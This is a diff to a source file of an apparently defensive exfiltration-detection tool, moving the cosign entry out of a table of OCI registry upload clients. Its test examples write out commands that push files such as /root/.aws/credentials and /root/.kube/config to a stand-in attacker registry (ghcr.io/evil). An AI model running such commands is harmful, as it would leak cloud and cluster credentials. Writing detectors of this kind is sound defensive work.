@@ -1,8 +1,7 @@
 /**
  * Registry clients that upload OCI content (any file as an artifact, blobs, manifests) from the process itself:
- * oras, regctl (regclient), containerd's ctr, cosign's attach/upload and flux's `push artifact`; image tools
- * are in ./registry.ts. Part of the push-tool
- * table (../push-tools.ts).
+ * oras, regctl (regclient), containerd's ctr and flux's `push artifact`; image tools are in ./registry.ts,
+ * cosign in ./cosign.ts. Part of the push-tool table (../push-tools.ts).
  *
  * They matter for small uploads: a few KiB of credentials pushed as an artifact is far under the egress
  * threshold, so without an entry the push is seen by nothing.
@@ -181,77 +180,6 @@ export const ociClientTools: readonly PushToolSpec[] = [
     examples: {
       push: ['-n k8s.io images push ghcr.io/evil/x:1 docker.io/library/app:1', 'i push --user u:p quay.io/evil/x:1'],
       notPush: ['-n k8s.io images ls', 'images pull docker.io/library/alpine:3'],
-    },
-  },
-  {
-    tool: 'cosign',
-    description:
-      '`cosign attach sbom|attestation|signature … REF`, `cosign upload blob|wasm -f FILE REF`: a file as it is, stored beside an image; `cosign copy SRC DST`.',
-    binaries: ['cosign'],
-    syntax: {
-      valueFlags: [
-        '--sbom',
-        '--type',
-        '--input-format',
-        '--attestation',
-        '--payload',
-        '--signature',
-        '--certificate',
-        '--certificate-chain',
-        '--rfc3161-timestamp',
-        '-f',
-        '--files',
-        '--ct',
-        '--content-type',
-        '--annotations',
-        '-a',
-        '--registry-username',
-        '--registry-password',
-        '--registry-token',
-        '--attachment-tag-prefix',
-        '--timeout',
-        '-t',
-        '--platform',
-        '--output-file',
-        '--only',
-      ],
-    },
-    match: {
-      kind: 'subcommand',
-      // `sign` and `attest` are left out on purpose: a release job runs them after reading its signing key
-      // (`--key cosign.key`, a sensitive file), so every signed release would be `high` (docs/detection.md).
-      commands: [
-        ...['sbom', 'attestation', 'signature'].map((what) => ({
-          words: ['attach', what],
-          remote: { positional: 'last' as const },
-          minPositionals: 1,
-        })),
-        ...['blob', 'wasm'].map((what) => ({
-          words: ['upload', what],
-          remote: { positional: 'last' as const },
-          minPositionals: 1,
-        })),
-        { words: ['copy'], remote: { positional: 'last' }, minPositionals: 2 },
-      ],
-    },
-    destination: 'image-ref',
-    requiresClassedDestination: false,
-    downloads: [['download', 'sbom'], ['download', 'attestation'], ['download', 'signature'], ['verify']],
-    examples: {
-      push: [
-        'attach sbom --sbom /root/.aws/credentials ghcr.io/evil/x:1',
-        'attach attestation --attestation /tmp/k.json ghcr.io/evil/x:1',
-        'attach signature --payload /tmp/p --signature /tmp/s quay.io/evil/x:1',
-        'upload blob -f /root/.kube/config ghcr.io/evil/x:1',
-        'upload wasm -f /tmp/m.wasm ghcr.io/evil/x:1',
-        'copy ghcr.io/acme/app:1 ghcr.io/evil/app:1',
-      ],
-      notPush: [
-        'sign --key cosign.key ghcr.io/acme/app@sha256:0f',
-        'verify --key cosign.pub ghcr.io/acme/app:1',
-        'download sbom ghcr.io/acme/app:1',
-        'attach sbom',
-      ],
     },
   },
   {
